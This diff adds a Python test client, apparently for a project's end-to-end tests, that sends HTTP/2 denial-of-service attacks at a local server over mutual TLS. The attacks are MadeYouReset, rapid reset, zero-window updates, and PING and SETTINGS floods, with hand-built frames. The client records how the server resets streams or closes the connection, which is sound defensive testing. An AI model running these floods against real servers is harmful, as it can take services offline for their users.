@@ -1,0 +1,180 @@
+#!/usr/bin/env python3
+"""A raw HTTP/2 client that abuses a Liaison server over mutual TLS.
+
+Used by the end-to-end tests (tests/it/http2.rs) with the Python `h2`
+package, which .ci/run installs. It speaks HTTP/2 through h2's state
+machine and writes the frames h2 would refuse to send itself by hand. It
+prints one JSON object: what it sent, what came back, and how the
+connection ended.
+
+Attacks:
+  made_you_reset  open streams whose content-length promises a body they
+                  end without: a stream error, so the server itself resets each
+                  stream (the "MadeYouReset" class, CVE-2025-8671). A
+                  bounded server ends the connection with GOAWAY.
+  zero_window     open a stream and send WINDOW_UPDATE with a zero
+                  increment on it (a protocol error).
+  rapid_reset     open a stream and reset it at once (CVE-2023-44487).
+  ping_flood      PING frames without reading the acknowledgements.
+  settings_flood  SETTINGS frames without reading the acknowledgements.
+"""
+
+import argparse
+import json
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+
+WINDOW_UPDATE = 0x8
+PING = 0x6
+SETTINGS = 0x4
+
+
+def frame(kind, flags, stream_id, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
+        ">I", stream_id & 0x7FFFFFFF
+    ) + payload
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument("--addr", required=True, help="host:port")
+    p.add_argument("--ca", required=True)
+    p.add_argument("--cert", required=True)
+    p.add_argument("--key", required=True)
+    p.add_argument("--attack", required=True,
+                   choices=["made_you_reset", "zero_window", "rapid_reset", "ping_flood",
+                            "settings_flood"])
+    p.add_argument("--count", type=int, default=5000)
+    p.add_argument("--seconds", type=float, default=20.0)
+    a = p.parse_args()
+
+    host, port = a.addr.rsplit(":", 1)
+    ctx = ssl.create_default_context(cafile=a.ca)
+    ctx.load_cert_chain(a.cert, a.key)
+    ctx.set_alpn_protocols(["h2"])
+    ctx.check_hostname = False
+    raw = socket.create_connection((host, int(port)), timeout=a.seconds)
+    sock = ctx.wrap_socket(raw, server_hostname="localhost")
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(
+        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+
+    out = {"attack": a.attack, "sent": 0, "resets_received": 0, "goaway": False,
+           "goaway_error": None, "closed": False, "events": 0}
+    headers = [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"),
+               (":path", "/grpc.health.v1.Health/Check"),
+               ("content-type", "application/grpc"), ("te", "trailers")]
+    deadline = time.monotonic() + a.seconds
+    sock.setblocking(False)
+
+    def pump():
+        """Reads what the server sent; False once the connection ended."""
+        while True:
+            try:
+                data = sock.recv(65536)
+            except (ssl.SSLWantReadError, BlockingIOError):
+                return True
+            except (ConnectionError, ssl.SSLError, OSError) as e:
+                out["closed"] = True
+                out["error"] = repr(e)
+                return False
+            if not data:
+                out["closed"] = True
+                return False
+            try:
+                events = conn.receive_data(data)
+            except Exception as e:  # a frame h2 itself finds wrong: ended anyway
+                out["closed"] = True
+                out["error"] = repr(e)
+                return False
+            for e in events:
+                out["events"] += 1
+                if isinstance(e, h2.events.StreamReset):
+                    out["resets_received"] += 1
+                elif isinstance(e, h2.events.ConnectionTerminated):
+                    out["goaway"] = True
+                    out["goaway_error"] = int(e.error_code)
+            pending = conn.data_to_send()
+            if pending:
+                try:
+                    sock.sendall(pending)
+                except (ssl.SSLWantWriteError, BlockingIOError):
+                    pass
+                except (ConnectionError, ssl.SSLError, OSError):
+                    out["closed"] = True
+                    return False
+
+    def send(data):
+        view = memoryview(data)
+        while view:
+            if time.monotonic() > deadline:
+                return False
+            try:
+                n = sock.send(view)
+                view = view[n:]
+            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
+                if not pump():
+                    return False
+                time.sleep(0.001)
+            except (ConnectionError, ssl.SSLError, OSError) as e:
+                out["closed"] = True
+                out["error"] = repr(e)
+                return False
+        return True
+
+    stream_id = 1
+    for i in range(a.count):
+        if out["goaway"] or out["closed"] or time.monotonic() > deadline:
+            break
+        if a.attack == "made_you_reset":
+            conn.send_headers(stream_id, headers + [("content-length", "5")], end_stream=True)
+            data = conn.data_to_send()
+            stream_id += 2
+        elif a.attack == "zero_window":
+            conn.send_headers(stream_id, headers, end_stream=False)
+            data = conn.data_to_send()
+            data += frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", 0))
+            stream_id += 2
+        elif a.attack == "rapid_reset":
+            conn.send_headers(stream_id, headers, end_stream=False)
+            conn.reset_stream(stream_id, error_code=0x8)  # CANCEL
+            data = conn.data_to_send()
+            stream_id += 2
+        elif a.attack == "ping_flood":
+            data = frame(PING, 0, 0, struct.pack(">Q", i))
+        else:
+            data = frame(SETTINGS, 0, 0, b"")
+        if not send(data):
+            break
+        out["sent"] += 1
+        if not pump():
+            break
+    # Whatever the server still says (a GOAWAY it sent before closing may
+    # still be buffered), until it ends the connection or is quiet for a
+    # moment.
+    if out["closed"]:
+        out["closed"] = False
+        pump()
+        out["closed"] = True
+    quiet_until = time.monotonic() + 1.0
+    while not out["closed"] and time.monotonic() < min(quiet_until, deadline + 2):
+        before = out["events"]
+        if not pump():
+            break
+        if out["events"] != before:
+            quiet_until = time.monotonic() + 1.0
+        time.sleep(0.01)
+    json.dump(out, sys.stdout)
+    print()
+
+
+if __name__ == "__main__":
+    main()
